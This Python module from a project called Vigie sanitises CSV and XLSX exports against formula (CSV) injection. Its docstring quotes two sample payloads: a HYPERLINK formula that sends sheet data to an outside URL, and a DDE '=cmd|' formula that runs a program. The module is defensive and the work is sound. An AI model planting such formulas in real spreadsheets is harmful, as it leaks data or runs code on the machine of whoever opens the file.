"""Spreadsheet values that stay data: source text never becomes a formula in a CSV or XLSX Vigie writes (pure).

Case ids, agents and filter values come from the source systems. A text that Excel or
LibreOffice reads as a formula (OWASP "CSV injection": ``=HYPERLINK("http://x?"&A1, "…")``
sends the sheet's data away, ``=cmd|…`` runs a program through DDE) would run on the
machine of whoever opens the export or the weekly workbook.

- **CSV**: a text field that starts with ``= + - @``, a tab or a carriage return gets a
  single quote in front (OWASP's advice); the CSV writer quotes any field holding ``;``,
  ``"`` or a line break, so a value cannot spill into the next cell or row. Only text:
  numbers (a negative duration ``-3,5``) and dates stay what they are.
- **XLSX**: text is always a string cell, never a formula (openpyxl makes one of any text
  beginning with ``=``) nor an error value (``#N/A``). No quote is added to the value: a
  string cell is not evaluated, and the exported text must stay the source's exactly (a
  case id is looked up as it is). Such cells carry Excel's own *quotePrefix* style instead
  — what Excel records when someone types ``'=…`` — so editing the cell keeps it text.
"""

from __future__ import annotations

import re

import pandas as pd

#: First characters that make a spreadsheet read a text as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: Texts that openpyxl would store as Excel error values rather than as text.
ERROR_TEXTS = ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A")

#: Control characters an XLSX (XML 1.0) cannot hold; openpyxl refuses the whole file for one of them.
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def formula_like(values: pd.Series) -> pd.Series:
    """True where a value is text starting like a formula; False for missing values, numbers and dates."""
    if isinstance(values.dtype, pd.CategoricalDtype):
        values = values.astype(object)
    if isinstance(values.dtype, pd.StringDtype):
        return values.str.startswith(FORMULA_STARTS, na=False).astype(bool)
    if values.dtype == object:
        kind = pd.api.types.infer_dtype(values, skipna=True)
        if kind == "string":
            return values.str.startswith(FORMULA_STARTS, na=False).astype(bool)
        if kind.startswith("mixed"):  # texts among numbers or dates: look at each value
            return values.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_STARTS)).astype(bool)
    return pd.Series(False, index=values.index)


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_text(text: str) -> str:
    """One text as a CSV cell that cannot be read as a formula (a leading ``'`` when needed)."""
    return "'" + text if starts_like_formula(text) else text


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose formula-like texts start with ``'``; other cells unchanged (vectorised)."""
    out = frame.copy()
    for name in out.columns:
        mask = formula_like(out[name])
        if mask.any():
            out[name] = out[name].mask(mask, "'" + out[name][mask].astype(str))
    return out


def xlsx_column(values: pd.Series) -> tuple[list[object], list[int]]:
    """A column as values openpyxl writes as they are, and the positions that must be forced to text.

    Missing values (NaN, NaT, <NA>) become None (an empty cell: openpyxl would write ``nan``,
    which Excel calls a corrupt file); text loses the control characters XML cannot hold. The
    positions are the texts openpyxl would make a formula or an error value of, and those that
    start like a formula: they are written as string cells with the quotePrefix style.
    """
    if isinstance(values.dtype, pd.CategoricalDtype):
        values = values.astype(object)
    if isinstance(values.dtype, pd.StringDtype) and values.str.contains(XML_ILLEGAL, na=False).any():
        values = values.str.replace(XML_ILLEGAL, "", regex=True)
    elif values.dtype == object:
        values = values.map(lambda v: XML_ILLEGAL.sub("", v) if isinstance(v, str) else v)
    forced = formula_like(values) | values.isin(ERROR_TEXTS)
    cells = values.astype(object).where(values.notna(), None).tolist()
    return cells, forced.to_numpy().nonzero()[0].tolist()
